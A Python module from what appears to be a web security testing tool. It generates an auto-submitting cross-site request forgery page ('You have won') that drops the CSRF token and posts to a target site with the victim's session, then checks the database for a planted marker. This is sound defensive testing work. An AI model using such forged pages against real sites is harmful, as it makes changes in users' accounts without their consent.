"""A form on the attacker's page posts itself to the site, with the victim's session.

Oracle: what the form changes has changed in the site's database. A status code proves nothing: a
site may change something and answer 403, or answer 200 and refuse.
"""

from __future__ import annotations

from html import escape
from typing import TYPE_CHECKING

from ringfence.prove.stage import (
    Attack,
    Outcome,
    Result,
    Target,
    new_marker,
    path_of,
    stopped_by_answer,
)

if TYPE_CHECKING:
    from ringfence.prove.stage import FormLike, Stage
    from ringfence.prove.survey import Survey

__all__ = ["ATTACK", "filled", "marked_fields"]

_TOKENS = frozenset({"csrfmiddlewaretoken"})


def marked_fields(form: FormLike, marker: str) -> dict[str, str]:
    """Return what to write into the fields that take free text."""
    values = {
        "text": marker,
        "search": marker,
        "textarea": marker,
        "email": f"{marker}@attacker.test",
        "url": f"https://attacker.test/{marker}",
    }
    return {f.name: values[f.kind] for f in form.fields if f.kind in values}


def filled(form: FormLike, marker: str) -> list[tuple[str, str]]:
    """Return the form's fields as an attacker would send them: without the token."""
    marked = marked_fields(form, marker)
    sent = []
    for field in form.fields:
        if field.name in _TOKENS or field.kind in ("file", "submit", "button", "reset", "image"):
            continue
        if field.kind in ("checkbox", "radio") and not field.checked:
            continue
        sent.append((field.name, marked.get(field.name, field.value)))
    return sent


def _find(survey: Survey) -> tuple[Target, ...] | str:
    if not survey.forms:
        return survey.why_no_forms
    return tuple(
        Target(path_of(form.action), f"POST {path_of(form.action)}", form=form)
        for form in survey.forms
    )


def _strike(stage: Stage, target: Target) -> Result:
    form, marker = _form(target), new_marker()
    inputs = "".join(
        f'<input type="hidden" name="{escape(name)}" value="{escape(value)}">'
        for name, value in filled(form, marker)
    )
    marked = bool(marked_fields(form, marker))
    before = "" if marked else stage.digest()
    mark = stage.mark()
    # A field called "submit" would hide the method: take it from the prototype.
    page = f"""<!doctype html><title>You have won</title>
        <form method="post" action="{escape(form.action)}" enctype="{escape(form.enctype)}">{inputs}
        </form><script>HTMLFormElement.prototype.submit.call(document.forms[0])</script>"""
    stage.lure(stage.attacker_page(marker, page))
    exchange = stage.request_since(mark, "POST", target.path)
    where = stage.stored(marker) if marked else None
    if where is not None:
        return Result(Outcome.SUCCEEDED, "changed", f"{where} holds what the attacker's page sent")
    if not marked and stage.digest() != before:
        return Result(Outcome.SUCCEEDED, "changed", "the database changed")
    return stopped_by_answer(exchange, "nothing changed")


def _use(stage: Stage, target: Target) -> str | None:
    form, marker = _form(target), new_marker()
    values = marked_fields(form, marker)
    before = "" if values else stage.digest()
    visit = stage.submit(form, values)
    changed = stage.stored(marker) is not None if values else stage.digest() != before
    if changed:
        return None
    return f"the site's own form changes nothing either ({visit.error or visit.status})"


def _form(target: Target) -> FormLike:
    if target.form is None:
        raise ValueError(f"{target.label} names no form.")
    return target.form


ATTACK = Attack(
    name="forgery",
    title="cross-site POST with the victim's session",
    cwe="CWE-352",
    stopped_by=("csrf", "transport"),
    find=_find,
    strike=_strike,
    use=_use,
    fix="switch on the csrf ring; let no view be exempt that changes something for a session",
)
